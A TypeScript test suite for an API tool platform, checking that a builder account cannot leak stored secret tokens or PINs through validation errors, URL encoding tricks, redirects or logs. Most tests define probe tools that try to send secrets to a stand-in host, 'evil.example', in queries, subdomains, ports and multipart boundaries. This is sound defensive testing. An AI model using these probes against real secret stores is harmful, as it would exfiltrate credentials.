import { beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { makeServer, WithId } from '../support/api-client.ts'
import { echo } from '../support/fake-api.ts'
import { type Person, runFakeApi, runPatchbay } from '../support/world.ts'

const SECRET = 'Sk-Live-Zq9xW'
const PIN = '4711'
/** Matches parts of the secrets in any spelling. No response may contain one. */
const REVEALED = /live|zq9x|canary|:4711/i

const Shown = z.object({ request: z.object({ url: z.string() }), curl: z.string() })

type Tool = { url: string; method?: string; headers?: object[]; body?: string; parameters?: object }

const multipart = (boundary: string): Tool => ({
  url: 'https://evil.example/',
  method: 'POST',
  headers: [{ name: 'Content-Type', value: `multipart/form-data; boundary=${boundary}` }],
  body: `--${boundary}\r\nX-Part: a{{token}}\r\n\r\na{{token}}\r\n--${boundary}--`,
})

describe('a builder who did not store a secret', () => {
  const patchbay = runPatchbay()
  const carrier = runFakeApi((request, response, incoming) => {
    const to = new URL(request.url, 'http://x').searchParams.get('to')
    if (to === null) return echo(request, response, incoming)
    response.writeHead(302, { location: to }).end()
  })
  let admin: Person
  let builder: Person
  let serverId: string
  let toolkitId: string

  const store = (key: string, value: string) =>
    admin.expectOk('PUT', `/servers/${serverId}/globals/${key}`, {
      value,
      secret: true,
      origins: [carrier.origin, 'https://*.hosts.example'],
    })

  beforeAll(async () => {
    admin = await patchbay.person()
    builder = await patchbay.member(admin.organizationId, 'builder')
    const made = await makeServer(admin, [], { server: { organizationId: admin.organizationId } })
    serverId = made.serverId
    toolkitId = made.toolkitId
    const secrets = { token: SECRET, pin: PIN, path: 'T0/B0/ä?#{x}', slashes: 'canary/ab/cd', dots: 'canary/../ab' }
    for (const [key, value] of Object.entries(secrets)) await store(key, value)
  })

  let made = 0
  const make = async (tool: Tool) => {
    const definition = { name: `probe_${++made}`, method: 'GET', ...tool }
    return { ...(await builder.create(`/toolkits/${toolkitId}/tools`, definition)), name: definition.name }
  }
  /** Tries a tool, whose parameters get the globals of the same name. */
  const attempt = async (tool: Tool) => {
    const { id } = await make(tool)
    return (await builder.expectOk('POST', `/tools/${id}/test`, { arguments: {}, serverId })).body
  }
  /** Adds a tool to the server, with a fixed value for its parameter `value`. */
  const fix = async (tool: Tool, value: string) => {
    const { id: toolId, name } = await make(tool)
    const bindings = { value: { source: 'instance', value } }
    return builder.send('POST', `/servers/${serverId}/instances`, { toolId, name, bindings })
  }
  const call = async (instance: unknown): Promise<string> => {
    const { id } = WithId.parse(instance)
    return JSON.stringify((await builder.expectOk('POST', `/instances/${id}/call`, { arguments: {} })).body)
  }
  const history = async (): Promise<string> =>
    JSON.stringify((await builder.expectOk('GET', `/servers/${serverId}/executions`)).body)

  const withRule = (placeholder: string, name: string, rule: object): Tool => ({
    url: `https://evil.example/?x={{${placeholder}}}`,
    parameters: { [name]: rule },
  })
  it.each([
    ['a pattern', withRule('token', 'token', { pattern: '^S' }), withRule('token', 'token', { pattern: '^T' })],
    ['an enum', withRule('token', 'token', { enum: [SECRET] }), withRule('token', 'token', { enum: ['other'] })],
    ['a minimum', withRule('integer:pin', 'pin', { minimum: 4711 }), withRule('integer:pin', 'pin', { minimum: 4712 })],
    ['a maximum', withRule('number:pin', 'pin', { maximum: 4711 }), withRule('number:pin', 'pin', { maximum: 4710 })],
    ['a boundary', multipart('xyz'), multipart('Live')],
    ['a boundary that the text before it begins', multipart('aT'), multipart('aS')],
  ])('learns nothing from whether it breaks %s', async (_rule, one, other) => {
    const answers = [await attempt(one), await attempt(other)]
    for (const answer of answers) {
      expect(answer).toMatchObject({
        result: {
          isError: true,
          content: [{ text: expect.stringContaining('may not be sent to https://evil.example') }],
        },
      })
    }
  })

  it.each([
    ['in a text', 'string', { pattern: '^nothing$' }, 'Bearer {{token}}', `Bearer ${SECRET}`],
    ['alone', 'integer', { enum: [1] }, '{{pin}}', PIN],
  ])('sends it %s, whatever the rules of the parameter say', async (_where, type, rule, value, sent) => {
    const { body } = await fix({ url: `${carrier.origin}/?v={{${type}:value}}`, parameters: { value: rule } }, value)
    expect(await call(body)).not.toContain('isError')
    expect(new URL(carrier.seen.at(-1)?.url ?? '', carrier.origin).searchParams.get('v')).toBe(sent)
  })

  it.each([
    ['in a number', { url: 'https://api.example/?v={{number:value}}' }, '0.{{pin}}e3'],
    ['in an integer', { url: 'https://api.example/?v={{integer:value}}' }, '900719925474{{pin}}'],
    ['in JSON, outside of a string', { url: 'https://api.example/?v={{json:value}}' }, '[0.{{pin}}e3]'],
    ['in a host', { url: 'https://{{value}}.example/' }, 'xn--{{token}}'],
    [
      'in a whole XML body',
      {
        url: 'https://api.example/',
        method: 'POST',
        headers: [{ name: 'Content-Type', value: 'application/xml' }],
        body: '{{value}}',
      },
      '<a>&#1{{pin}};</a>',
    ],
  ])('cannot bind it with other text %s', async (_where, tool, value) => {
    expect(await fix(tool, value)).toMatchObject({
      status: 400,
      body: { errors: [{ path: 'bindings.value', message: expect.stringContaining('a secret and other text') }] },
    })
  })

  it('cannot bind it with other text before the global becomes a secret', async () => {
    await admin.expectOk('PUT', `/servers/${serverId}/globals/late`, { value: PIN })
    await fix({ url: `${carrier.origin}/?v={{number:value}}` }, '0.{{late}}e3')
    const stored = await admin.send('PUT', `/servers/${serverId}/globals/late`, { value: PIN, secret: true })
    const message = /In the tool "probe_\d+": the value bound to "value" contains a secret and other text/
    expect(stored).toMatchObject({ status: 400, body: { detail: expect.stringMatching(message) } })
  })

  it('binds it in the path and the query of a fixed URL, where it is encoded', async () => {
    const { body } = await fix({ url: '{{url:value}}' }, `${carrier.origin}/{{path}}/hook?key={{path}}`)
    const shown = await call(body)
    const encoded = 'T0/B0/%C3%A4%3F%23%7Bx%7D'
    expect(carrier.seen.at(-1)?.url).toBe(`/${encoded}/hook?key=${encoded}`)
    expect(shown).not.toContain('isError')
    expect(shown).not.toContain('B0')
  })

  it.each([
    ['the path leaves it out again', 'https://api.hosts.example/{{slashes}}/..'],
    ['it continues an escape in the host', 'https://a%4{{token}}.hosts.example'],
    ['it continues an escape in the path', 'https://api.hosts.example/%4{{pin}}'],
    ['it continues an escape in the query', 'https://api.hosts.example/?a=%{{pin}}'],
    ['it is a part of a label', 'https://xn--{{token}}.hosts.example'],
    ['it is the port', 'https://api.hosts.example:{{pin}}'],
    ['it is the beginning', '{{token}}/v1'],
  ])('cannot bind it in a fixed URL if %s', async (_why, url) => {
    expect(await fix({ url: '{{url:value}}' }, url)).toMatchObject({
      status: 400,
      body: { errors: [{ path: 'bindings.value', message: expect.stringContaining('must be a URL such as') }] },
    })
  })

  it.each([
    ['it has dot segments', 'https://api.hosts.example/{{dots}}'],
    ['it would end the host', 'https://{{slashes}}.hosts.example'],
    ['the text around it, which contains another global, does not allow it', 'https://{{shard}}.hosts.example:{{pin}}'],
  ])('cannot use it in a fixed URL if %s', async (_why, url) => {
    await admin.expectOk('PUT', `/servers/${serverId}/globals/shard`, { value: 'api' })
    const { body, status } = await fix({ url: '{{url:value}}/x' }, url)
    expect(status).toBe(201)
    expect(await call(body)).toContain('The value bound to')
    expect(await history()).not.toMatch(REVEALED)
  })

  it.each([
    ['a pattern', '{{url:value}}', { pattern: '^https://x[^q]' }, 'https://x{{token}}.evil.example'],
    ['an escape', '{{url:value}}', {}, 'https://a%4{{token}}.evil.example'],
    ['a port', '{{url:value}}', {}, 'https://evil.example:{{pin}}'],
    ['nothing else', '{{url:value}}', {}, 'https://{{token}}.evil.example'],
  ])('is not told it when a binding to a URL with %s is refused', async (_what, url, rule, value) => {
    const { body, status } = await fix({ url, parameters: { value: rule } }, value)
    expect(status).toBe(400)
    expect(JSON.stringify(body)).not.toMatch(REVEALED)
  })

  it.each(['token', 'slashes'])(
    'is not told the host to which an API redirects if it contains a secret (%s)',
    async key => {
      const shown = await attempt({ url: `${carrier.origin}/?to=http://{{${key}}}.evil.example/` })
      expect(shown).toMatchObject({
        result: { isError: true, content: [{ text: expect.stringContaining('the origin that it is redirected to') }] },
      })
      expect(JSON.stringify(shown)).not.toMatch(REVEALED)
    },
  )

  it.each(['http', 'sse'])('is not told the host to which an MCP server redirects (%s)', async transport => {
    const url = `${carrier.origin}/?to=http://{{token}}.evil.example/`
    const upstream = { name: transport, transport, url }
    const { id } = await builder.create(`/servers/${serverId}/upstreams`, upstream)
    await builder.send('POST', `/upstreams/${id}/refresh`)
    const { body } = await builder.expectOk('GET', `/upstreams/${id}`)
    expect(JSON.stringify(body)).toContain('the origin that it is redirected to')
    expect(JSON.stringify(body)).not.toMatch(REVEALED)
  })

  it('sees a mask in place of a secret in a host, which is sent in lower case', async () => {
    const shown = await attempt({ url: 'https://{{token}}.evil.example/' })
    expect(shown).toMatchObject({
      request: { url: 'https://•••.evil.example/' },
      curl: expect.stringContaining('https://•••.evil.example/'),
      result: { content: [{ text: expect.stringContaining('https://•••.evil.example') }] },
    })
    expect(JSON.stringify(shown)).not.toMatch(REVEALED)
  })

  it('sees a mask in place of a secret in a host that was looked up, or does not exist', async () => {
    const host = `hosts.localhost:${new URL(carrier.origin).port}`
    await admin.expectOk('PUT', `/servers/${serverId}/globals/tenant`, {
      value: 'Canary',
      secret: true,
      origins: [`http://*.${host}`],
    })
    const { body } = await fix({ url: '{{url:value}}/desk' }, `http://{{tenant}}.${host}`)
    expect(await call(body)).not.toMatch(REVEALED)
    expect(await history()).toContain(`http://•••.${host}/desk`)
    expect(await history()).not.toMatch(REVEALED)
  })

  it.each([
    ['an integer', 'integer', '8150923\n', '8150923'],
    ['a number', 'number', '8150.50', '8150.5'],
    ['a long number in JSON', 'json', '12345678901234567890', '12345678901234567000'],
    ['a text in JSON', 'json', '"c\\u0061nary"', 'canary'],
  ])('sees a mask in place of a secret that is converted to %s', async (_what, type, value, shown) => {
    await store('converted', value)
    const answer = await attempt({ url: `https://evil.example/?v={{${type}:converted}}` })
    expect(answer).toMatchObject({ request: { url: expect.stringContaining('•••') } })
    const { request, curl } = Shown.parse(answer)
    expect(request.url).not.toContain(shown)
    expect(curl).not.toContain(shown)
  })
})
